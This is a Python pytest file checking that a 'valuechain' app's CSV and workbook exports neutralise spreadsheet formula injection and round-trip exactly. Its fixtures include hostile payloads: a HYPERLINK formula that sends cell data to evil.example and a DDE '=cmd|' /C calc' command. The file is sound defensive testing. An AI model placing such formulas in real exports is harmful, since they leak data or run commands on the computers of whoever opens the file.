"""Spreadsheet formulas in exports (OWASP "CSV injection"), on both databases.

Text a lead or member typed (an agreement's channel or obligations, a request's
category, a unit's name) must not become a formula when an admin opens the export in
a spreadsheet: every CSV text cell starting with ``= + - @``, a tab or a carriage
return leaves with a ``'`` in front, and the import takes exactly that ``'`` off
again, so export → import → export gives the same files. Numbers in number columns
stay numbers. The workbook export stores such text as text cells, never formulas.
"""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from valuechain import Valuechain
from valuechain.domain.agreement import Agreement, AgreementState, Metric
from valuechain.domain.bundle import escape_formula, unescape_formula
from valuechain.domain.link import Link, Relation
from valuechain.domain.organisation import OrganisationMap
from valuechain.domain.outcome import Outcome
from valuechain.domain.person import Person, Role
from valuechain.domain.request import RequestRecord
from valuechain.domain.result import Result, ResultKind
from valuechain.domain.unit import Unit, UnitKind
from valuechain.services.bundle import export_bundle, import_bundle
from valuechain.store import agreement as agreement_store
from valuechain.store import outcome as outcome_store
from valuechain.store import request as request_store

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = (
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
    "''-3",
    "'plain",
    "-5",
)

# Text as a user could type it (no NUL, no lone surrogate: neither is text), led by
# the characters that matter: formula starters, quotes before them, minus signs.
_BODY = st.text(
    alphabet=st.characters(codec="utf-8", exclude_characters="\x00"),
    max_size=8,
)
TEXT = st.builds(
    lambda lead, body: lead + body,
    st.sampled_from(["", "'", "''", "'''", *TRIGGERS, "'=", "''+", "'-", "-1", "'\t"]),
    _BODY,
).filter(lambda t: t != "" and not t.isspace())
# Obligations are kept one per non-empty line without surrounding spaces.
LINE = TEXT.map(str.strip).filter(lambda t: t != "" and "\n" not in t and "\r" not in t)
NUMBER_COLUMNS = ("capacity", "cost_per_item", "revenue_per_item", "value", "target")
NUMBER = st.floats(allow_nan=False, allow_infinity=False, min_value=-1e12, max_value=1e12)


def organisation(
    names: list[str], channel: str, cadence: str, obligations: list[str], category: str,
    cost: float, revenue: float, outcome: float,
) -> OrganisationMap:  # fmt: skip
    """A small organisation whose typed-in text and numbers are the given ones."""
    return OrganisationMap(
        units=[
            Unit("plan", names[0], UnitKind.TEAM),
            Unit("pack", names[1], UnitKind.TEAM),
            Unit("retail", names[2], UnitKind.EXTERNAL_CUSTOMER),
        ],
        results=[
            Result("weekly_plan", "plan", names[3], ResultKind.INTERMEDIATE, 1.0, cost, revenue),
            Result("boxes", "pack", "Boxes", ResultKind.FINISHED, None, None, None),
        ],
        links=[
            Link("weekly_plan", "pack", Relation.DEPENDS_ON, None, None),
            Link("boxes", "retail", Relation.PAYS, None, None),
        ],
        people=[Person("p1", names[4], "p1@example.org", "pack", Role.LEAD)],
        outcomes=[Outcome("retail", "2026-01", "satisfaction", outcome)],
        agreements=[
            Agreement(
                "plan-pack",
                "weekly_plan",
                "pack",
                targets={Metric.RESPONSE_HOURS: 4.0},
                channel=channel,
                cadence=cadence,
                state=AgreementState.AGREED,
                obligations=tuple(obligations),
            )
        ],
        requests=[
            RequestRecord(
                "req-1", "pack", "plan", datetime(2026, 11, 2, 9, tzinfo=UTC), category=category
            )
        ],
    )


def csv_cells(folder: Path) -> list[tuple[str, str, str]]:
    """Every data cell of every CSV file of ``folder`` as (file, column, text)."""
    found = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.reader(handle)
            header = next(reader)
            for row in reader:
                found += [
                    (path.name, column, cell) for column, cell in zip(header, row, strict=True)
                ]
    return found


def test_escaping_round_trips_and_leaves_no_formula() -> None:
    for text in (*ATTACKS, "", "plain", "'", "''", "'a=1"):
        escaped = escape_formula(text)
        assert unescape_formula(escaped) == text
        assert not escaped.startswith(TRIGGERS)
    # Only what the export would have escaped loses a quote; other quotes stay.
    assert unescape_formula("'plain") == "'plain"
    assert unescape_formula("'=1") == "=1"
    assert escape_formula("'=1") == "''=1"


def test_typed_formulas_leave_csv_export_as_text(vc: Valuechain, tmp_path: Path) -> None:
    vc.write_map(organisation(
        ["=1+2", "+1+2", "@SUM(A1:A9)", "-1+2", "\t=1+2"],
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "\r=1+2",
        ["=1+2", "plain", "-2"],
        "=cmd|' /C calc'!A0",
        -5.0,
        -0.25,
        -3.5,
    ))  # fmt: skip
    export_bundle(vc, tmp_path / "out")
    cells = csv_cells(tmp_path / "out")
    assert cells, "the export holds cells"
    for file, column, text in cells:
        if column in NUMBER_COLUMNS:
            continue
        assert not text.startswith(TRIGGERS), (file, column, text)
    by_column = {(f, c): t for f, c, t in cells}
    assert by_column["agreements.csv", "channel"].startswith("'=HYPERLINK")
    assert by_column["requests.csv", "category"] == "'=cmd|' /C calc'!A0"
    assert by_column["agreements.csv", "obligations"] == "'=1+2\nplain\n-2"
    # Numbers in number columns stay numbers a spreadsheet reads as numbers.
    assert by_column["results.csv", "cost_per_item"] == "-5.0"
    assert by_column["outcomes.csv", "value"] == "-3.5"


def test_workbook_export_stores_formula_text_as_text(vc: Valuechain, tmp_path: Path) -> None:
    vc.write_map(organisation(
        ["=1+2", "+1+2", "@SUM(A1:A9)", "-1+2", "'=1"], "=1+2", "-x", ["=A1"], "@x",
        -5.0, 1.0, -3.5,
    ))  # fmt: skip
    path = tmp_path / "out.xlsx"
    export_bundle(vc, path)
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    book = load_workbook(path)  # not data_only: a formula would show as one
    units = [row for row in book["units"].iter_rows(min_row=2)]
    assert {row[1].value for row in units} == {"=1+2", "+1+2", "@SUM(A1:A9)"}
    assert all(row[1].data_type == "s" for row in units)
    assert book["results"]["F2"].value in (-5, -5.0) or book["results"]["F3"].value in (-5, -5.0)
    # The workbook holds the text exactly (no quote added), and reads back equal.
    other = Valuechain(vc.engine, vc.organisation + "-x", create=True)
    import_bundle(other, path)
    assert sorted(u.name for u in other.read_map().units) == sorted(
        u.name for u in vc.read_map().units
    )


def _state(vc: Valuechain) -> tuple[object, ...]:
    org = vc.read_map()
    with vc.engine.connect() as conn:
        agreements = agreement_store.read_agreements(conn, vc.org_id)
        outcomes = outcome_store.read_outcomes(conn, vc.org_id)
    requests = request_store.records_as_rows(vc.engine, vc.org_id)
    return (
        [(u.id, u.name) for u in org.units],
        [(r.id, r.name, r.cost_per_item, r.revenue_per_item) for r in org.results],
        [(p.id, p.name) for p in org.people],
        [(a.channel, a.cadence, a.obligations) for a in agreements],
        [o.value for o in outcomes],
        [r[7] for r in requests],
    )


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    names=st.lists(TEXT, min_size=5, max_size=5),
    channel=TEXT,
    cadence=TEXT,
    obligations=st.lists(LINE, min_size=1, max_size=3),
    category=TEXT,
    cost=NUMBER,
    revenue=NUMBER,
    outcome=NUMBER,
)
def test_export_import_export_round_trips_exactly(
    vc: Valuechain,
    tmp_path_factory: pytest.TempPathFactory,
    names: list[str],
    channel: str,
    cadence: str,
    obligations: list[str],
    category: str,
    cost: float,
    revenue: float,
    outcome: float,
) -> None:
    work = tmp_path_factory.mktemp("round")
    first = Valuechain(vc.engine, f"{vc.organisation}-{work.name}-a", create=True)
    first.write_map(
        organisation(names, channel, cadence, obligations, category, cost, revenue, outcome)
    )
    export_bundle(first, work / "one")
    for file, column, text in csv_cells(work / "one"):
        if column in NUMBER_COLUMNS:
            float(text or "0")  # a number a spreadsheet reads as a number
        else:
            assert not text.startswith(TRIGGERS), (file, column, text)
    second = Valuechain(vc.engine, f"{vc.organisation}-{work.name}-b", create=True)
    import_bundle(second, work / "one")
    assert _state(second) == _state(first)
    export_bundle(second, work / "two")
    for path in sorted((work / "one").iterdir()):
        assert (work / "two" / path.name).read_bytes() == path.read_bytes(), path.name


def test_request_import_reads_the_exported_requests_csv_back(
    vc: Valuechain, tmp_path: Path
) -> None:
    """``valuechain request import`` reads our own requests.csv with its escape."""
    from dataclasses import replace

    from valuechain.services import request as requests

    org = organisation(["a", "b", "c", "d", "e"], "x", "y", ["z"], "=cmd|' /C calc'!A0", 1, 1, 1)
    vc.write_map(org)
    export_bundle(vc, tmp_path / "out")
    other = Valuechain(vc.engine, vc.organisation + "-r", create=True)
    other.write_map(replace(org, requests=[]))
    assert requests.import_requests(other, tmp_path / "out" / "requests.csv")["requests"] == 1
    assert request_store.records_as_rows(other.engine, other.org_id)[0][7] == "=cmd|' /C calc'!A0"


def test_item_texts_round_trip_through_the_escape(vc: Valuechain, tmp_path: Path) -> None:
    """items.csv is read by its own reader; it takes the export's ' off too."""
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "units.csv").write_text("id,name,kind\na,A,team\n", encoding="utf-8")
    (bundle / "items.csv").write_text(
        "instrument,item,dimension,text,scale_min,scale_max\n"
        "pulse2,q1,speed,-How fast is {provider}?,-3,3\n"
        "pulse2,q2,speed,'=quoted on purpose,-3,3\n"  # the escape: read as =quoted…
        "pulse2,q3,overall,=SUM(1) overall,-3,3\n",
        encoding="utf-8",
    )
    import_bundle(vc, bundle)
    export_bundle(vc, tmp_path / "one")
    items = (tmp_path / "one" / "items.csv").read_text(encoding="utf-8")
    assert "'-How fast" in items and "'=quoted" in items and ",-3,3" in items
    other = Valuechain(vc.engine, vc.organisation + "-i", create=True)
    import_bundle(other, tmp_path / "one")
    export_bundle(other, tmp_path / "two")
    assert (tmp_path / "two" / "items.csv").read_text(encoding="utf-8") == items
    with vc.engine.connect() as conn:
        from valuechain.store import measure as measure_store

        texts = [row[3] for row in measure_store.item_rows(conn, other.org_id)]
    assert texts == ["-How fast is {provider}?", "=quoted on purpose", "=SUM(1) overall"]
